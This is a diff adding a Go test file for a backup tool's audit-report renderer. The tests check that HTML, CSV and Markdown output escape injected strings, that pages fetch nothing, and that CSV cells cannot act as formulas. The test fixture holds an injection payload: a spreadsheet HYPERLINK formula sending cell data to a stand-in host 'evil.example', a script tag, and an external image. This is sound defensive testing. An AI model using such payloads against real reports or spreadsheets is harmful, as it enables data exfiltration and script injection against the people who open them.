@@ -1,0 +1,246 @@
+package report_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/net/html"
+
+	"github.com/safekeep-dev/safekeep/audit"
+	"github.com/safekeep-dev/safekeep/report"
+	"github.com/safekeep-dev/safekeep/report/reporttest"
+)
+
+func render(t *testing.T, r *report.Report, f report.Format) string {
+	t.Helper()
+	var buf bytes.Buffer
+	if err := report.Render(&buf, r, f); err != nil {
+		t.Fatalf("render %s: %v", f, err)
+	}
+	return buf.String()
+}
+
+// hostile is a report whose every bucket-supplied string tries to break
+// out of its context.
+func hostile(t *testing.T) *report.Report {
+	t.Helper()
+	evil := `=HYPERLINK("http://evil.example/?x="&A1)</td></tr><script>alert(1)</script><img src="http://evil.example/x.png"> | *x* [l](http://evil.example) ` + "\n# h"
+	mk := func(seq uint64, kind audit.Kind, d any) audit.Entry {
+		raw, err := json.Marshal(d)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return audit.Entry{Seq: seq, Time: reporttest.Start.Add(time.Duration(seq) * time.Hour), Actor: "@" + evil, Kind: kind, Subject: "-" + evil, Details: raw}
+	}
+	return report.FromEntries([]audit.Entry{
+		mk(1, audit.KindSeal, audit.SealDetails{Schedule: evil, Backup: "+" + evil, SealDigest: evil, Recipients: []string{evil}}),
+		mk(2, audit.KindDrill, audit.DrillDetails{Namespace: evil, Drill: evil, Run: evil, Passed: false, RTOSeconds: 5,
+			Checks: []audit.CheckResult{{Name: evil, Message: evil, Objects: []string{evil}}}}),
+		mk(3, audit.KindRestore, audit.RestoreDetails{User: evil, Host: evil, Destination: evil, Schedule: evil, Backup: evil}),
+		mk(4, audit.KindFailure, audit.FailureDetails{Operation: evil, Reason: evil, Message: evil}),
+		mk(5, audit.KindTargetChange, audit.TargetDetails{Target: evil, Change: evil, Endpoint: evil, Fields: []string{evil}}),
+		mk(6, audit.KindRetentionDelete, audit.DeleteDetails{Schedule: evil, Backup: evil, Reason: evil}),
+		mk(7, audit.Kind(evil), nil),
+	}, report.Options{Now: reporttest.Start.AddDate(0, 0, 1), Target: evil})
+}
+
+func TestHTMLEscapesAndLoadsNothing(t *testing.T) {
+	for name, r := range map[string]*report.Report{"sample": sample(t), "hostile": hostile(t)} {
+		t.Run(name, func(t *testing.T) {
+			out := render(t, r, report.FormatHTML)
+			checkNoFetch(t, out)
+			if !strings.Contains(out, `Content-Security-Policy" content="default-src 'none'`) {
+				t.Error("no Content-Security-Policy forbidding fetches")
+			}
+		})
+	}
+}
+
+// checkNoFetch tokenizes an HTML page and fails on anything that could
+// load something: a script, image, frame, object, stylesheet link, a src
+// attribute, a link that is not an in-page anchor, or a CSS url() or
+// @import.
+func checkNoFetch(t *testing.T, page string) {
+	t.Helper()
+	z := html.NewTokenizer(strings.NewReader(page))
+	inStyle := false
+	for {
+		tt := z.Next()
+		switch tt {
+		case html.ErrorToken:
+			return
+		case html.TextToken:
+			if css := strings.ToLower(string(z.Text())); inStyle && (strings.Contains(css, "url(") || strings.Contains(css, "@import")) {
+				t.Errorf("stylesheet loads something: %s", css)
+			}
+		case html.StartTagToken, html.SelfClosingTagToken:
+			tok := z.Token()
+			inStyle = tok.Data == "style"
+			switch tok.Data {
+			case "script", "img", "link", "iframe", "frame", "object", "embed", "audio", "video", "source", "image", "use", "base", "form":
+				t.Errorf("element <%s> in the page", tok.Data)
+			}
+			for _, a := range tok.Attr {
+				v := strings.ToLower(a.Val)
+				switch {
+				case a.Key == "src" || a.Key == "srcset" || a.Key == "xlink:href" || a.Key == "background":
+					t.Errorf("<%s %s=%q>", tok.Data, a.Key, a.Val)
+				case a.Key == "href" && !strings.HasPrefix(a.Val, "#"):
+					t.Errorf("<%s href=%q>: only in-page anchors", tok.Data, a.Val)
+				case a.Key == "style" && strings.Contains(v, "url("):
+					t.Errorf("<%s style=%q>", tok.Data, a.Val)
+				case strings.HasPrefix(a.Key, "on"):
+					t.Errorf("<%s %s=...>: an event handler", tok.Data, a.Key)
+				}
+			}
+		case html.EndTagToken:
+			inStyle = false
+		}
+	}
+}
+
+func TestCSV(t *testing.T) {
+	for name, r := range map[string]*report.Report{"sample": sample(t), "hostile": hostile(t)} {
+		t.Run(name, func(t *testing.T) {
+			rows, err := csv.NewReader(strings.NewReader(render(t, r, report.FormatCSV))).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !slices.Equal(rows[0], report.CSVHeader) {
+				t.Errorf("header %v", rows[0])
+			}
+			if got, want := len(rows)-1, len(r.Events()); got != want {
+				t.Errorf("%d rows, want one per event (%d)", got, want)
+			}
+			for _, row := range rows[1:] {
+				if len(row) != len(report.CSVHeader) {
+					t.Fatalf("row %v has %d cells", row, len(row))
+				}
+				for _, c := range row {
+					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+						t.Errorf("cell %q would be read as a formula", c)
+					}
+				}
+			}
+		})
+	}
+	rows, _ := csv.NewReader(strings.NewReader(render(t, sample(t), report.FormatCSV))).ReadAll()
+	kinds := map[string]int{}
+	for _, row := range rows[1:] {
+		kinds[row[2]+"/"+row[5]]++
+	}
+	want := map[string]int{"seal/sealed": reporttest.Sealed, "drill/passed": reporttest.DrillPassed, "drill/failed": reporttest.DrillFailed,
+		"restore/passed": reporttest.Restores, "retention-delete/deleted": reporttest.Deletions, "target-change/created": 1,
+		"target-change/updated": 1, "failure/failed": reporttest.Failures}
+	for k, n := range want {
+		if kinds[k] != n {
+			t.Errorf("%s rows %d, want %d (all: %v)", k, kinds[k], n, kinds)
+		}
+	}
+}
+
+func TestSafeCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "plain": "plain", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
+		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
+	} {
+		if got := report.SafeCell(in); got != want {
+			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestMarkdownTables(t *testing.T) {
+	for name, r := range map[string]*report.Report{"sample": sample(t), "hostile": hostile(t)} {
+		t.Run(name, func(t *testing.T) {
+			out := render(t, r, report.FormatMarkdown)
+			if strings.Contains(out, "<script") || regexp.MustCompile(`[^\\]\]\(`).MatchString(out) {
+				t.Error("Markdown lets markup or a link through")
+			}
+			for _, line := range strings.Split(out, "\n") {
+				if !strings.HasPrefix(line, "|") {
+					continue
+				}
+				cells := len(regexp.MustCompile(`(^|[^\\])\|`).FindAllString(line, -1))
+				if !strings.HasSuffix(line, "|") || cells < 2 {
+					t.Errorf("broken table row: %q", line)
+				}
+			}
+		})
+	}
+	out := render(t, sample(t), report.FormatMarkdown)
+	for _, want := range []string{"| clinic | nightly | 14 | 13 | 1 | 2 |", "| clinic | daily-restore | 14 | 12 | 2 | 86% |",
+		"configmaps/clinic/app-config", "164.312(c)(2)", "supports, and does not prove, compliance"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("Markdown lacks %q", want)
+		}
+	}
+}
+
+func TestJSONFields(t *testing.T) {
+	var doc map[string]any
+	if err := json.Unmarshal([]byte(render(t, sample(t), report.FormatJSON)), &doc); err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"format", "generatedAt", "until", "target", "schedules", "drills", "restores", "retentionDeletions",
+		"targetChanges", "failures", "integrity", "hipaa"}
+	for _, k := range want {
+		if _, ok := doc[k]; !ok {
+			t.Errorf("JSON lacks %q", k)
+		}
+	}
+	if doc["format"] != report.FormatV1 {
+		t.Errorf("format %v", doc["format"])
+	}
+	s := doc["schedules"].([]any)[0].(map[string]any)
+	for _, k := range []string{"name", "backupsTaken", "backupsSealed", "backupsFailed", "failedAttempts", "lastSealed",
+		"sealedBytes", "offsiteBackups", "offsiteBytes", "recipients", "backups"} {
+		if _, ok := s[k]; !ok {
+			t.Errorf("schedule lacks %q", k)
+		}
+	}
+	d := doc["drills"].([]any)[0].(map[string]any)
+	for _, k := range []string{"runs", "passed", "failed", "passRate", "lastRun", "lastPass", "maxRTOSeconds", "overObjective", "runList", "days"} {
+		if _, ok := d[k]; !ok {
+			t.Errorf("drill lacks %q", k)
+		}
+	}
+	var back report.Report
+	if err := json.Unmarshal([]byte(render(t, sample(t), report.FormatJSON)), &back); err != nil || back.Drills[0].Runs != reporttest.DrillRuns {
+		t.Errorf("JSON does not read back: %v", err)
+	}
+}
+
+func TestParseFormat(t *testing.T) {
+	for in, want := range map[string]report.Format{"html": report.FormatHTML, "MD": report.FormatMarkdown, "markdown": report.FormatMarkdown,
+		"csv": report.FormatCSV, "json": report.FormatJSON} {
+		if got, err := report.ParseFormat(in); err != nil || got != want {
+			t.Errorf("ParseFormat(%q) = %q, %v", in, got, err)
+		}
+	}
+	if _, err := report.ParseFormat("pdf"); err == nil {
+		t.Error("ParseFormat(pdf) succeeded")
+	}
+}
+
+func FuzzReport(f *testing.F) {
+	f.Add("seal", []byte(`{"schedule":"s","backup":"b","recipients":["x"]}`), "subj")
+	f.Add("drill", []byte(`{"drill":"d","passed":false,"rtoSeconds":1e308,"maxRTOSeconds":-1,"checks":[{"name":"c"}]}`), "")
+	f.Add("restore", []byte(`{"namespaceMapping":{"a":"b"}}`), "<x>")
+	f.Fuzz(func(t *testing.T, kind string, details []byte, subject string) {
+		e := audit.Entry{Seq: 1, Time: reporttest.Start, Actor: "a", Kind: audit.Kind(kind), Subject: subject, Details: details}
+		r := report.FromEntries([]audit.Entry{e}, report.Options{Now: reporttest.Start.Add(time.Hour)})
+		for _, f := range report.Formats {
+			var buf bytes.Buffer
+			if err := report.Render(&buf, r, f); err != nil {
+				t.Fatalf("render %s: %v", f, err)
+			}
+		}
+	})
+}
